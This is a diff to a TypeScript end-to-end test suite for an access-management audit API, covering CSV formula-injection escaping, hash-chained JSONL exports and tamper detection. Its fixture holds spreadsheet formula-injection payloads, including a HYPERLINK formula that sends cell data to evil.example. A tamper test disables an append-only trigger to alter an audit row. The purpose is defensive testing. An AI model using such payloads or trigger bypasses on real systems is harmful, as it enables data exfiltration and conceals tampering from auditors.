@@ -1,10 +1,13 @@
 // The admin and auditor API end to end on a real Temporal (time-skipping) and database: policies
 // (validation, versions, audit), the birthright simulation, hand-granted access, the audit trail and its
 // exports, who-had-what-when, assets (with the leaver signal), and a bulk operation of a few people.
+import { Client } from 'pg';
 import request from 'supertest';
 import { DEFAULT_POLICY } from '../../domain/default-policy';
 import type { PolicyDocument } from '../../domain/policy-document';
-import { CSV_COLUMNS } from '../../api/routes/audit-export';
+import { CSV_COLUMNS, FORMULA_START, restoreFormula } from '../../api/routes/audit-export';
+import { canonicalJson, contentOf, verifyEvents, type AuditEvent } from '../../db';
+import { TEST_AUDIT_KEYS } from '../support/audit-keys';
 import { finished, hire } from '../support/workflow-helpers';
 import { as, bearer, eventually, startApi, TOKEN, type ApiHarness } from './harness';
 
@@ -155,12 +158,18 @@ describe('hand-granted access', () => {
   });
 });
 
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+SUM(1,2)', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=already"];
+
 describe('audit trail', () => {
   beforeAll(async () => {
     await h.stack.store.appendAudit({
       idempotencyKey: 'test:tricky', employeeId: 'E2', type: 'test.note', outcome: 'succeeded', actor: 'someone, "quoted"',
       details: { note: 'line one\nline two, with "quotes"' },
     });
+    // What a hostile value looks like to a spreadsheet: each would run as a formula if the cell began with it.
+    await h.stack.store.appendAuditBatch(FORMULAS.map((actor, i) => ({
+      idempotencyKey: `test:formula-${i}`, employeeId: 'E2', type: 'test.formula', outcome: 'succeeded' as const, actor, approver: actor,
+    })));
   });
 
   test("a person's trail pages with a cursor, oldest first", async () => {
@@ -194,6 +203,35 @@ describe('audit trail', () => {
     expect(tricky[col('actor')]).toBe('someone, "quoted"');
     expect(JSON.parse(tricky[col('details')]!)).toEqual({ note: 'line one\nline two, with "quotes"' });
     expect(rows.slice(1).map((r) => Number(r[col('seq')]))).toEqual(all.map((e) => e.seq));
+    expect(rows.slice(1).map((r) => r[col('keyId')])).toEqual(all.map((e) => e.keyId));
+    expect(new Set(all.map((e) => e.keyId))).toEqual(new Set([TEST_AUDIT_KEYS.signingKeyId]));
+  });
+
+  test('CSV export: no cell starts a formula, and each restores to the stored value', async () => {
+    const text = (await auditor().get('/v1/audit/export?format=csv').buffer(true).parse((r, cb) => {
+      let s = '';
+      r.on('data', (c: Buffer) => { s += c.toString('utf8'); });
+      r.on('end', () => cb(null, s));
+    })).body as string;
+    const rows = parseCsv(text).slice(1);
+    for (const cell of rows.flat()) expect(FORMULA_START.test(cell)).toBe(false);
+    const col = (name: string) => CSV_COLUMNS.indexOf(name as never);
+    const formulaRows = rows.filter((r) => r[col('type')] === 'test.formula');
+    expect(formulaRows.map((r) => r[col('actor')]!.startsWith("'"))).toEqual(FORMULAS.map(() => true));
+    expect(formulaRows.map((r) => restoreFormula(r[col('actor')]!))).toEqual(FORMULAS);
+    expect(formulaRows.map((r) => restoreFormula(r[col('approver')]!))).toEqual(FORMULAS);
+  });
+
+  test('JSONL export: each line is the canonical form that was hashed, and the lines verify as a chain', async () => {
+    const stored = (await h.stack.store.listAudit({ limit: 500 })).items;
+    const text = (await auditor().get('/v1/audit/export?format=jsonl')).text;
+    const lines = text.trimEnd().split('\n');
+    expect(lines).toEqual(stored.map((e) => canonicalJson(e)));
+    const parsed = lines.map((l) => JSON.parse(l) as AuditEvent);
+    for (const [i, e] of parsed.entries()) {
+      expect(TEST_AUDIT_KEYS.mac(e.keyId!, canonicalJson(contentOf(e)))).toBe(stored[i]!.hash);
+    }
+    expect(verifyEvents(parsed, TEST_AUDIT_KEYS)).toEqual({ ok: true, count: stored.length, legacy: 0 });
   });
 
   test('JSONL export: one event per line, filtered by time', async () => {
@@ -210,9 +248,29 @@ describe('audit trail', () => {
     expect(none.text).toBe('');
   });
 
-  test('the chain verifies', async () => {
-    const res = await auditor().get('/v1/audit/verify');
-    expect(res.body).toEqual({ ok: true, count: (await h.stack.store.listAudit({ limit: 500 })).items.length });
+  test('the chain verifies, and names the first event edited behind the app', async () => {
+    const all = (await h.stack.store.listAudit({ limit: 500 })).items;
+    expect((await auditor().get('/v1/audit/verify')).body).toEqual({ ok: true, count: all.length, legacy: 0 });
+    const victim = all[2]!;
+    const owner = new Client({ connectionString: h.stack.ownerUrl });
+    await owner.connect();
+    const asOwner = async (sql: string, params: unknown[]) => {
+      await owner.query('BEGIN');
+      await owner.query('ALTER TABLE audit_events DISABLE TRIGGER audit_events_append_only');
+      await owner.query(sql, params);
+      await owner.query('ALTER TABLE audit_events ENABLE TRIGGER audit_events_append_only');
+      await owner.query('COMMIT');
+    };
+    try {
+      await asOwner(`UPDATE audit_events SET actor = 'someone else' WHERE seq = $1`, [victim.seq]);
+      expect((await auditor().get('/v1/audit/verify')).body).toEqual({
+        ok: false, code: 'hash_mismatch', seq: victim.seq, brokenAt: victim.seq, id: victim.id, keyId: victim.keyId, reason: expect.stringMatching(/altered/),
+      });
+    } finally {
+      await asOwner('UPDATE audit_events SET actor = $2 WHERE seq = $1', [victim.seq, victim.actor]);
+      await owner.end();
+    }
+    expect((await auditor().get('/v1/audit/verify')).body).toMatchObject({ ok: true });
   });
 
   test('who had what when', async () => {
